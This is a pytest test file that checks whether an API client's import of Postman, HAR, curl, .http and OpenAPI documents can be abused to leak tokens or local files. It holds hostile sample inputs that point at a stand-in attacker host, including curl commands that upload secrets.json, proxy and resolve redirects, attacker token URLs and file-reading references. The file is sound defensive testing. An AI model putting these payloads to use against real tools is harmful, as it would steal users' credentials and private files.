"""What an imported document can make this machine send or read."""

import json
from typing import Any
from urllib.parse import quote

import pytest

from tests.adversarial.machine import Machine, stolen
from tests.canaries import ACCESS, PASSWORD, SECRET_KEY, leaks

Json = dict[str, Any]
PATH = "/weda/workflow/v1/prod/DescribeInstanceApproverList"
V21 = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"


def postman(url: object, *, auth: object = None, variables: object = None) -> str:
    """Return a collection with one request."""
    headers = [{"key": "Authorization", "value": "Bearer {{access_token}}"}]
    request = {"method": "POST", "url": url, "header": [] if auth else headers}
    if auth:
        request["auth"] = auth
    return json.dumps(
        {
            "info": {"name": "lure", "schema": V21},
            "item": [{"name": "steal", "request": request}],
            "variable": variables or [],
        }
    )


def har(url: str) -> str:
    request: Json = {
        "method": "POST",
        "url": url,
        "httpVersion": "HTTP/1.1",
        "cookies": [],
        "headers": [{"name": "Authorization", "value": "Bearer {{access_token}}"}],
        "queryString": [],
        "headersSize": -1,
        "bodySize": -1,
    }
    entry: Json = {"startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "request": request}
    log = {"version": "1.2", "creator": {"name": "x", "version": "1"}, "entries": [entry]}
    return json.dumps({"log": log})


def openapi(server: str, path: str = "/steal", **more: object) -> str:
    operation: Json = {
        "operationId": "Steal",
        "responses": {"200": {"description": "ok"}},
        "security": [{"wedaClientCredentials": []}],
    }
    return json.dumps(
        {
            "openapi": "3.0.3",
            "info": {"title": "lure", "version": "1"},
            "servers": [{"url": server}],
            "paths": {path: {"get": operation}},
            **more,
        }
    )


BEARER = {"type": "bearer", "bearer": [{"key": "token", "value": "{{access_token}}"}]}
API_KEY = {
    "type": "apikey",
    "apikey": [
        {"key": "in", "value": "query"},
        {"key": "key", "value": "t"},
        {"key": "value", "value": "{{access_token}}"},
    ],
}
EVIL_VARIABLE = [{"key": "baseUrl", "value": "<EVIL>"}, {"key": "vars.host", "value": "<EVIL>"}]

COLLECTIONS = [
    ("postman-absolute", postman(f"<EVIL>{PATH}")),
    ("postman-bearer", postman(f"<EVIL>{PATH}", auth=BEARER)),
    ("postman-api-key", postman(f"<EVIL>{PATH}", auth=API_KEY)),
    ("postman-parts", postman({"protocol": "http", "host": ["<EVIL-PLACE>"], "path": ["x"]})),
    ("postman-base-variable", postman("{{baseUrl}}/x", variables=EVIL_VARIABLE)),
    ("postman-host-variable", postman("{{vars.host}}@<EVIL-PLACE>/x", variables=EVIL_VARIABLE)),
    ("postman-token-in-the-query", postman("<EVIL>/?t={{access_token}}")),
    ("postman-token-as-a-name", postman("http://{{access_token}}.evil.example/")),
    ("har", har(f"<EVIL>{PATH}")),
    ("har-user", har(f"http://<HOME-PLACE>@<EVIL-PLACE>{PATH}")),
    ("curl", f"curl -X POST -H 'Authorization: Bearer {{{{access_token}}}}' '<EVIL>{PATH}'"),
    (
        "curl-proxy",
        f"curl -x <EVIL> -H 'Authorization: Bearer {{{{access_token}}}}' '<HOME>{PATH}'",
    ),
    (
        "curl-resolve",
        f"curl --connect-to ::<EVIL-PLACE> -H 'A: {{{{access_token}}}}' '<HOME>{PATH}'",
    ),
    (
        "curl-insecure",
        f"curl -k -L -H 'Authorization: Bearer {{{{access_token}}}}' '<EVIL-S>{PATH}'",
    ),
    ("curl-file", "curl -d @<FOLDER>/state/secrets.json '<EVIL>/x'"),
    ("curl-form-file", "curl -F 'a=@<FOLDER>/state/secrets.json' '<HOME>/x'"),
    ("curl-upload", "curl -T <FOLDER>/state/secrets.json '<HOME>/x'"),
    ("curl-config", "curl -K <FOLDER>/state/secrets.json '<HOME>/x'"),
    ("curl-netrc", "curl -n '<EVIL>/x'"),
    ("http", f"POST <EVIL>{PATH}\nAuthorization: Bearer {{{{access_token}}}}\n\n{{}}\n"),
    ("http-file", "POST <EVIL>/x\nContent-Type: text/plain\n\n< <FOLDER>/state/secrets.json\n"),
    (
        "http-file-at-home",
        "POST <HOME>/x\nContent-Type: text/plain\n\n< <FOLDER>/state/secrets.json\n",
    ),
]

DOCUMENTS = [
    ("openapi-server", openapi("<EVIL>")),
    ("openapi-server-variable", openapi("{vars.host}@<EVIL-PLACE>")),
    ("openapi-server-relative", openapi("//<EVIL-PLACE>")),
    ("openapi-path", openapi("/", f"/@<EVIL-PLACE>{PATH}")),
    ("openapi-path-twice", openapi("", f"//<EVIL-PLACE>{PATH}")),
    (
        "openapi-token-address",
        openapi(
            "<HOME>",
            components={
                "securitySchemes": {
                    "wedaClientCredentials": {
                        "type": "oauth2",
                        "flows": {"clientCredentials": {"tokenUrl": "<EVIL>/token", "scopes": {}}},
                    }
                }
            },
        ),
    ),
    ("openapi-reference", openapi("<HOME>", components={"$ref": "<EVIL>/document.json"})),
    (
        "openapi-file",
        openapi("<HOME>", components={"schemas": {"A": {"$ref": "../state/secrets.json"}}}),
    ),
]


@pytest.mark.parametrize(("name", "text"), COLLECTIONS, ids=[name for name, _ in COLLECTIONS])
def test_an_imported_collection_takes_nothing_elsewhere(
    machine: Machine, name: str, text: str
) -> None:
    file = machine.folder / "lure.txt"
    file.write_text(machine.fill(text), "utf-8")
    imported = machine.run("import", str(file), "--into", "lure")
    ran = machine.run("run", "lure", "--yes", "--env", "hq")
    said = f"{name}: {imported.talk}{ran.status}: {ran.text}{ran.talk}"
    assert machine.stolen == [], said
    assert machine.evil.requests == [], said
    assert stolen(imported.data + imported.talk.encode() + ran.data + ran.talk.encode()) == []
    assert leaks(machine.sites.plain.received, (SECRET_KEY, PASSWORD)) == [], said


def test_an_imported_collection_is_sent_home(machine: Machine) -> None:
    """An ordinary collection is sent to the deployment: the tests above are able to fail."""
    for name, text in (("postman", postman(f"<HOME>{PATH}")), ("har", har(f"<HOME>{PATH}"))):
        machine.sites.plain.clear()
        file = machine.folder / "lure.txt"
        file.write_text(machine.fill(text), "utf-8")
        machine.run("import", str(file), "--into", name)
        machine.run("run", name, "--yes", "--env", "hq")
        assert machine.sites.plain.requests == [f"POST {PATH} HTTP/1.1"], name


@pytest.mark.parametrize(("name", "text"), DOCUMENTS, ids=[name for name, _ in DOCUMENTS])
def test_an_imported_document_takes_nothing_elsewhere(
    machine: Machine, name: str, text: str
) -> None:
    file = machine.folder / "lure.json"
    file.write_text(machine.fill(text), "utf-8")
    imported = machine.run("import", str(file), "--into", "lure")
    ran = machine.run("send", "lure.Steal", "--yes", "--env", "hq")
    said = f"{name}: {imported.talk}{ran.status}: {ran.text}{ran.talk}"
    assert machine.stolen == [], said
    assert machine.evil.requests == [], said
    assert stolen(imported.data + imported.talk.encode() + ran.data + ran.talk.encode()) == []


@pytest.mark.parametrize("into", ["hq", "new"])
def test_an_imported_environment_changes_no_route(machine: Machine, into: str) -> None:
    names = ("host", "vars.host", "baseUrl", "proxy", "secret_key", "ca_file")
    values = [{"key": name, "value": machine.evil.base, "enabled": True} for name in names]
    file = machine.folder / "lure.json"
    file.write_text(
        json.dumps({"name": into, "values": values, "_postman_variable_scope": "environment"})
    )
    machine.run("import", str(file), "--into", into)
    for environment in ("hq", "new"):
        machine.run("send", "workflow.DescribeInstanceApproverList", "--yes", "--env", environment)
        machine.run("token", "--refresh", "--env", environment)
    assert machine.stolen == []


REFERENCE = "{{$file uploads/private.txt}}"
BODIES = [
    ("postman", json.dumps({
        "info": {"name": "lure", "schema": V21},
        "item": [{"name": "steal", "request": {
            "method": "POST", "url": "<HOME>/x", "body": {"mode": "raw", "raw": REFERENCE}}}],
    })),
    ("postman-form", json.dumps({
        "info": {"name": "lure", "schema": V21},
        "item": [{"name": "steal", "request": {
            "method": "POST", "url": "<HOME>/x",
            "body": {"mode": "formdata", "formdata": [{"key": "a", "value": REFERENCE}]}}}],
    })),
    ("har", har("<HOME>/x").replace('"bodySize"', '"postData": {"mimeType": "text/plain", "text": "'
                                    + REFERENCE + '"}, "bodySize"')),
    ("curl", f"curl -d '{REFERENCE}' '<HOME>/x'"),
    ("curl-form", f"curl -F 'a={REFERENCE}' '<HOME>/x'"),
    ("curl-nested", "curl -d '{{$fi{{$file x}}le uploads/private.txt}}' '<HOME>/x'"),
    ("http", f"POST <HOME>/x\n\n{REFERENCE}\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "text"), BODIES, ids=[name for name, _ in BODIES])
def test_an_import_takes_no_file_of_the_workspace(machine: Machine, name: str, text: str) -> None:
    machine.write("uploads/private.txt", "canaryPrivate0123456789")
    file = machine.folder / "lure.txt"
    file.write_text(machine.fill(text), "utf-8")
    imported = machine.run("import", str(file), "--into", "lure")
    assert imported.status == 0, imported.talk
    assert "private.txt" in imported.talk + imported.text, f"{name}: {imported.talk}"
    machine.run("run", "lure", "--yes", "--env", "hq")
    assert leaks(machine.sites.plain.received, ("canaryPrivate0123456789",)) == [], name


def test_an_example_of_a_document_takes_no_file_of_the_workspace(machine: Machine) -> None:
    machine.write("uploads/private.txt", "canaryPrivate0123456789")
    document = json.loads(openapi("<HOME>"))
    operation = document["paths"]["/steal"].pop("get")
    schema = {"type": "object", "properties": {"a": {"type": "string", "example": REFERENCE}}}
    media = {"schema": schema, "example": {"a": REFERENCE}}
    operation["requestBody"] = {"content": {"application/json": media}}
    document["paths"]["/steal"]["post"] = operation
    file = machine.folder / "lure.json"
    file.write_text(machine.fill(json.dumps(document)), "utf-8")
    assert machine.run("import", str(file), "--into", "lure").status == 0
    ran = machine.run("send", "lure.Steal", "--yes", "--env", "hq")
    assert any("POST /steal" in line for line in machine.sites.plain.requests), ran.talk
    assert leaks(machine.sites.plain.received, ("canaryPrivate0123456789",)) == []


HUSH = "hunter2-4711"
SCRIPTS = (
    f"pm.environment.set('access_token', '{HUSH}');",
    f'const password = "{HUSH}";',
    f"login({{client_secret: '{HUSH}'}})",
)


@pytest.mark.parametrize("script", SCRIPTS)
def test_an_import_leaves_no_named_secret_in_a_file(machine: Machine, script: str) -> None:
    request: Json = {
        "method": "POST",
        "url": "{{vars.host}}/x",
        "header": [{"key": "X-Forwarded-Auth", "value": f"Bearer {HUSH}"}],
        "body": {
            "mode": "raw",
            "raw": '{"pass\\u0077ord": "' + HUSH + '", "secret": ["' + HUSH + '"]}',
        },
    }
    event = {"listen": "prerequest", "script": {"exec": [script]}}
    variables = [
        {"key": "plain", "value": HUSH, "type": "secret"},
        {"key": "other", "value": f"Basic {HUSH}"},
    ]
    text = json.dumps(
        {
            "info": {"name": "lure", "schema": V21},
            "item": [{"name": "steal", "request": request, "event": [event]}],
            "variable": variables,
        }
    )
    file = machine.folder / "lure.json"
    file.write_text(text, "utf-8")
    ran = machine.run("import", str(file), "--into", "lure")
    assert ran.status == 0, ran.talk
    written = [each.read_text("utf-8") for each in machine.workspace.rglob("*.toml")]
    assert any("X-Forwarded-Auth" in each for each in written)
    assert not any(HUSH in each for each in written)


def kept_here(secret: str) -> dict[str, str]:
    """Return documents that contain a secret of this machine wherever an import creates a name."""
    collection = json.loads(postman(f"<HOME>/a/{secret}"))
    (request,) = collection["item"]
    collection["item"] = [
        {"name": f"x {secret}", "item": [request, {**request, "name": f"http://h/{secret}"}]}
    ]
    request["request"]["header"] = [{"key": "X-A", "value": secret}, {"key": secret, "value": "1"}]
    body = json.dumps({f"{secret}_token": "a"})
    request["request"]["body"] = {"mode": "raw", "raw": body}
    collection["variable"] = [{"key": secret, "value": "1"}, {"key": "a", "value": secret}]
    collection["info"]["name"] = secret
    test = f"pm.test('a', () => {{ pm.expect(pm.response.json().a).to.eql('{secret}') }})"
    request["event"] = [{"listen": "test", "script": {"exec": [test]}}]
    values = [{"key": "flow", "value": secret}, {"key": secret, "value": "1"}]
    return {
        "postman": json.dumps(collection),
        "har": har(f"<HOME>/a/{quote(secret, safe='')}"),
        "curl": f"curl '<HOME>/a/{secret}'",
        "http": f"### {secret}\nGET <HOME>/a\n",
        "openapi": openapi("<HOME>", f"/a/{secret}", tags=[{"name": secret}]),
        "environment": json.dumps(
            {"name": secret, "values": values, "_postman_variable_scope": "environment"}
        ),
    }


@pytest.mark.parametrize("format_", kept_here(""))
def test_an_import_writes_no_secret_that_is_kept_here_not_even_as_a_name(
    machine: Machine, format_: str
) -> None:
    assert machine.run("token", "--env", "hq").status == 0
    into = ("--into", "hq") if format_ == "environment" else ()
    for secret in (ACCESS, quote(SECRET_KEY, safe="")):
        file = machine.folder / "lure.txt"
        file.write_text(machine.fill(kept_here(secret)[format_]), "utf-8")
        ran = machine.run("import", str(file), *into)
        assert (ran.status == 0) == (secret == ACCESS), ran.talk
        files = [each for each in machine.workspace.rglob("*") if each.is_file()]
        names = "\n".join(str(each.relative_to(machine.workspace)) for each in files)
        written = names + "\n".join(each.read_text("utf-8") for each in files)
        assert stolen(written.lower().encode() + written.encode()) == []
        assert ACCESS.lower()[:20] not in written.lower()
